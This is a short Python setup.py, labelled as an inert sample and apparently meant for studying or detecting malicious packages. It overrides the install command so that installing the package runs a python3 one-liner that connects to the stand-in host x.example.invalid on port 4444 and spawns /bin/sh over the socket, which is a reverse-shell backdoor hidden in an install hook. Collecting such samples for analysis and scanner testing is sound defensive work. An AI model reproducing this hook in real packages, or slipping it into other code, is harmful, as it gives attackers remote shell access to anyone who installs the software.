# INERT SAMPLE: never run. A reverse shell kept in a string and run with python -c.
import os
from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        install.run(self)
        cmd = 'python3 -c "import os, pty, socket; s = socket.socket(); s.connect((\'x.example.invalid\', 4444)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); pty.spawn(\'/bin/sh\')"'
        os.system(cmd)


setup(name="inert-sample", version="1.0", cmdclass={"install": Hook})
